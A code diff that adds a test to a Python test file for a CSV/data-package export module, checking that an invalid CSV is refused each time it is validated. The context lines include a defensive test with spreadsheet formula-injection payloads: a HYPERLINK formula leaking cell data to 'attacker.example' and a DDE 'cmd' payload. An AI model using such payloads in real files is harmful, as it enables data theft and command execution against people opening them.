@@ -98,6 +98,15 @@ def test_the_data_package_refuses_a_csv_that_breaks_a_field_constraint() -> None
         spreadsheet.checked(text.replace(",GB,", ",UK,", 1), package)
 
 
+def test_a_csv_found_invalid_is_refused_each_time_it_is_checked() -> None:
+    # checked remembers the last CSV it validated: what it remembers of a bad one is the refusal.
+    package = spreadsheet.data_package(BASE_URL)
+    bad = spreadsheet.programmes_csv(fixture_views(), BASE_URL).replace(",GB,", ",UK,", 1)
+    for _ in range(2):
+        with pytest.raises(ValueError, match="constraint"):
+            spreadsheet.checked(bad, package)
+
+
 def test_a_cell_that_starts_as_a_formula_is_text_but_numbers_and_phone_numbers_stay_as_written() -> None:
     formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
     for written in (formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "-"):
